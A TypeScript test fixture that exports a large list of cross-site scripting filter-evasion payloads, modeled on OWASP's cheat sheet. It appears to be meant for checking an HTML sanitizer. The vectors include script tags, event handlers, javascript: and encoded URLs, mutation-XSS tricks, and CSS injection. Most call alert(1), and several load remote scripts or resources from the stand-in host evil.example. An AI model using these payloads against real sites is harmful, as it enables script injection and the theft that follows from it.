/*
 * Ways to have a script run that a filter is known to have missed, after the techniques of OWASP's XSS Filter Evasion
 * Cheat Sheet (https://cheatsheetseries.owasp.org). Each calls `alert`, which a browser test hears as a dialog, or loads
 * something from `evil.example`, which it sees as a request.
 */

const entities = (text: string, of: (code: number) => string): string =>
  Array.from(text, (letter) => of(letter.codePointAt(0) ?? 0)).join('');
const scriptUrl = 'javascript:alert(1)';
const decimal = entities(scriptUrl, (code) => `&#${code};`);
const padded = entities(scriptUrl, (code) => `&#${String(code).padStart(7, '0')}`);
const hexadecimal = entities(scriptUrl, (code) => `&#x${code.toString(16)};`);
const base64 = (text: string) => Buffer.from(text).toString('base64');
const svg = '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>';

const scripts = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<ScRiPt>alert(1)</sCrIpT>',
  '<script/x src="//evil.example/x.js"></script>',
  '<script\n>alert(1)</script\n>',
  '<<script>alert(1);//<</script>',
  '<script>alert(1)',
  '<script src=//evil.example/.j>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<script a=">" src="//evil.example/x.js"></script>',
  '<script =">" src="//evil.example/x.js"></script>',
  "<script a='>' src='//evil.example/x.js'></script>",
  '<script>document.write("<scri");</script>pt src="//evil.example/x.js">',
  '<script type="module">alert(1)</script>',
  '<script src="data:text/javascript,alert(1)"></script>',
  '</script><script>alert(1)</script>',
  '</title><script>alert(1)</script>',
  '</textarea><script>alert(1)</script>',
  '</style><script>alert(1)</script>',
  '</noscript><script>alert(1)</script>',
  '</select></option><script>alert(1)</script>',
  '--><script>alert(1)</script><!--',
  '<!--><script>alert(1)</script>-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  ']]><script>alert(1)</script>',
  '"><script>alert(1)</script>',
  "'><script>alert(1)</script>",
  '<img """><script>alert(1)</script>">',
  '<!--[if gte IE 4]><script>alert(1)</script><![endif]-->',
  '\\";alert(1);//',
  "';alert(1);//",
  '${alert(1)}{{constructor.constructor("alert(1)")()}}',
  '+ADw-script+AD4-alert(1)+ADw-/script+AD4-',
  'a\u2028<script>alert(1)</script>\u2029b',
];

const handlers = [
  '<img src=x onerror=alert(1)>',
  '<img src=x onerror="alert(1)"//',
  '<img/src=x/onerror=alert(1)>',
  '<img src=x:x onerror\t=alert(1)>',
  '<IMG SRC=/ ONERROR="alert(String.fromCharCode(88,83,83))">',
  '<img src=x onerror="&#97;lert(1)">',
  '<img src= onmouseover="alert(1)">',
  '<img onmouseover="alert(1)">',
  '<svg onload=alert(1)>',
  '<svg/onload=alert(1)>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg><a xlink:href="javascript:alert(1)"><text y="9">x</text></a></svg>',
  '<svg><script href="data:,alert(1)"/></svg>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<body onload=alert(1)>',
  '<body onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert(1)>',
  '<details open ontoggle=alert(1)>x</details>',
  '<video src=x onerror=alert(1)></video>',
  '<audio src=x onerror=alert(1)></audio>',
  '<video><source onerror=alert(1)></video>',
  '<input autofocus onfocus=alert(1)>',
  '<select autofocus onfocus=alert(1)></select>',
  '<textarea autofocus onfocus=alert(1)></textarea>',
  '<a href="#" autofocus tabindex=1 onfocus=alert(1)>x</a>',
  '<a onmouseover="alert(1)">x</a>',
  '<a onmouseover=alert(1)>x</a>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<p style="animation:x" onanimationstart=alert(1)>x</p>',
  '<xss autofocus tabindex=1 onfocus=alert(1)>x</xss>',
  '" autofocus onfocus=alert(1) x="',
  "' onmouseover='alert(1)",
  '`onmouseover=alert(1)`',
  '<math><mtext></mtext><mglyph><style><img src onerror=alert(1)></style></mglyph></math>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<table><td title="</td><img src=x onerror=alert(1)>">x</table>',
];

const addresses = [
  '<a href="javascript:alert(1)">x</a>',
  '<a href=" javascript:alert(1)">x</a>',
  '<a href="&#1;javascript:alert(1)">x</a>',
  '<a href="jav\tascript:alert(1)">x</a>',
  '<a href="jav&#x09;ascript:alert(1)">x</a>',
  '<a href="jav&#x0A;ascript:alert(1)">x</a>',
  '<a href="javascript&colon;alert(1)">x</a>',
  '<a href="//evil.example">x</a>',
  '<a href="/\\evil.example">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  `<a href="${decimal}">x</a>`,
  `<a href="${padded}">x</a>`,
  `<a href="${hexadecimal}">x</a>`,
  `<a href="data:text/html;base64,${base64('<script>alert(1)</script>')}">x</a>`,
  '<img src="javascript:alert(1);">',
  '<img src=`javascript:alert(1)`>',
  '<img dynsrc="javascript:alert(1)">',
  '<img lowsrc="javascript:alert(1)">',
  "<img src='vbscript:msgbox(1)'>",
  '<img src="//evil.example/pixel.png">',
  '<img srcset="https://evil.example/x.png 1x">',
  `<img src="data:image/svg+xml;base64,${base64(svg)}">`,
  '<input type="image" src="javascript:alert(1);">',
  '<body background="javascript:alert(1)">',
  '<table background="javascript:alert(1)"><td>x</td></table>',
  '<iframe src="javascript:alert(1);"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<iframe src=//evil.example/x.html <',
  '<frameset><frame src="javascript:alert(1);"></frameset>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="data:image/svg+xml,<svg onload=alert(1)>">',
  '<base href="//evil.example/">',
  '<link rel="stylesheet" href="//evil.example/x.css">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<meta http-equiv="refresh" content="0;url=//evil.example/">',
  '<form action="javascript:alert(1)"><button>x</button></form>',
  '<button formaction="javascript:alert(1)" form=f>x</button>',
];

const styles = [
  '<style>@import "//evil.example/x.css";</style>',
  '<style>li{list-style-image:url("javascript:alert(1)")}</style><ul><li>x',
  '<div style="background-image:url(//evil.example/x.png)">x</div>',
  '<div style="width:expression(alert(1))">x</div>',
  '<p style="position:fixed;inset:0;z-index:9999">x</p>',
];

/** None begins or ends with a blank, which would be trimmed. */
export const xssVectors: readonly string[] = [...scripts, ...handlers, ...addresses, ...styles];
